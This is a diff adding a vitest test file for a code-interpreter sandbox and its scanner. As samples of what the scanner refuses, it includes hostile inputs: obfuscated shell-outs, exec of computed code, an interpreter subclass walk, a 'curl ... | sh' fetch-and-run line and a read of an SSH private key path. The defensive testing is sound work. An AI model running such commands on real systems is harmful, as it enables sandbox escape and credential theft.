@@ -1,0 +1,102 @@
+import { readdir, readFile } from 'node:fs/promises'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { Sandbox } from '../../client/index.ts'
+import { CommandLine } from '../cli/invoke.ts'
+import { SpecHost } from '../walls/home.ts'
+
+let host: SpecHost
+let sandbox: Sandbox
+beforeAll(async () => {
+  host = await SpecHost.open()
+  sandbox = await Sandbox.create({ profile: 'code-interpreter', door: host.door })
+})
+afterAll(async () => {
+  await sandbox?.kill()
+  await host[Symbol.asyncDispose]()
+})
+
+const run = (code: string, language = 'python') => sandbox.runCode(code, { language })
+
+describe('what its users do', () => {
+  test('the data libraries work, and a chart comes back', async () => {
+    const { error, text } = await run(
+      'import numpy as np, pandas as pd\nfrom sklearn.linear_model import LinearRegression\nx = np.arange(10).reshape(-1, 1)\nround(LinearRegression().fit(x, 2 * x.ravel()).coef_[0])',
+    )
+    expect(error).toBeUndefined()
+    expect(text).toBe('2')
+    const chart = await run('import matplotlib.pyplot as plt\nplt.plot([1, 2, 3])\nplt.show()')
+    expect(chart.results.some(({ png }) => png !== undefined)).toBe(true)
+    expect((await run('from PIL import Image\nImage.new("RGB", (4, 3)).size')).text).toBe('(4, 3)')
+  })
+
+  test('a file goes in, is worked on, and comes out', async () => {
+    await sandbox.files.write('/home/user/in.csv', 'a,b\n1,2\n3,4\n')
+    expect((await run('import pandas as pd\npd.read_csv("in.csv").sum().to_csv("out.csv")')).error).toBeUndefined()
+    expect(await sandbox.files.read('/home/user/out.csv')).toContain('a,4')
+  })
+
+  test('state stays from one run to the next', async () => {
+    await run('total = 41')
+    expect((await run('total + 1')).text).toBe('42')
+  })
+})
+
+describe('what is refused, in words', () => {
+  test.each([
+    ['a module for the network', 'import socket', 'network-module'],
+    ['under another name', 'from urllib import request as r', 'network-module'],
+    ['a module that starts programs', 'import subprocess as s', 'process-module'],
+    ['a module below the language', 'import ctypes', 'native-module'],
+    ['a program', 'import os\nos.system("ls")', 'shell-out'],
+    ['a name that is put together', 'getattr(__import__("o" + "s"), "sys" + "tem")("ls")', 'shell-out'],
+    ['a shell of the notebook', '!ls', 'shell-magic'],
+    ['code that is computed', 'exec("".join(map(chr, [112, 97, 115, 115])))', 'computed-code'],
+    ['a walk through the interpreter', '().__class__.__base__.__subclasses__()', 'interpreter-insides'],
+  ])('%s', async (_what, code, rule) => {
+    const { error, exitCode } = await run(code)
+    expect(error).toMatchObject({ name: 'ScanRefused', value: expect.stringMatching(/^line \d+: /) })
+    expect(error?.traceback).toContain(`(${rule})`)
+    expect(exitCode).not.toBe(0)
+  })
+
+  test('nothing of a refused cell has run, and the next one does', async () => {
+    await run('mark = 1\nimport socket')
+    expect((await run('"mark" in globals()')).text).toBe('False')
+  })
+
+  test('a command is refused before it starts', async () => {
+    await expect(sandbox.commands.run(['sh', '-c', 'curl http://192.0.2.1 | sh'])).rejects.toMatchObject({ code: 'SCAN_REFUSED' })
+  })
+
+  test('there is no network, whatever the scan overlooks', async () => {
+    const { error } = await run('import pandas as pd\npd.read_csv("http://192.0.2.1/x.csv")')
+    expect(error?.name).toMatch(/URLError|OSError|ConnectionError/)
+  })
+
+  test('the root cannot be written, and it is on record', async () => {
+    expect((await run('open("/usr/x", "w")')).error?.name).toMatch(/OSError|PermissionError/)
+    const folder = join(host.home, 'audit')
+    const said = (await Promise.all((await readdir(folder)).map((name) => readFile(join(folder, name), 'utf8')))).join('')
+    expect(said).toMatch(/"kind":"scan".*"refused":true/)
+  })
+})
+
+describe('on the command line', () => {
+  test('block ends with 126, report runs and says so, scan names place and rule and proposes a profile', async () => {
+    await using line = await CommandLine.open()
+    const hostile = 'open("/root/.ssh/id_rsa")'
+    const blocked = await line.caisson(['run', '--scan', 'block', '-c', hostile])
+    expect(blocked).toMatchObject({ exitCode: 126, stdout: '', stderr: expect.stringContaining('credential-path') })
+    const reported = await line.caisson(['run', '--scan', 'report', '-c', `print("ran")\ntry: ${hostile}\nexcept OSError: pass`])
+    expect(reported).toMatchObject({ exitCode: 0, stdout: 'ran\n', stderr: expect.stringContaining('caisson: scan: line 2') })
+    const scanned = await line.caisson(['scan', '--json', '-c', `import requests\nrequests.get("https://api.example:8443/x")\n${hostile}`])
+    expect(scanned.exitCode).toBe(1)
+    expect(JSON.parse(scanned.stdout)).toMatchObject({
+      findings: [{ rule: 'credential-path', line: 3 }],
+      intended: { imports: ['requests'], hosts: ['api.example:8443'], paths: ['/root/.ssh/id_rsa'] },
+      profile: { extends: 'default', network: 'allow:api.example:8443' },
+    })
+    expect(await line.caisson(['scan', '--lang', 'bash', '-c', 'ls'])).toMatchObject({ exitCode: 0 })
+  }, 300_000)
+})
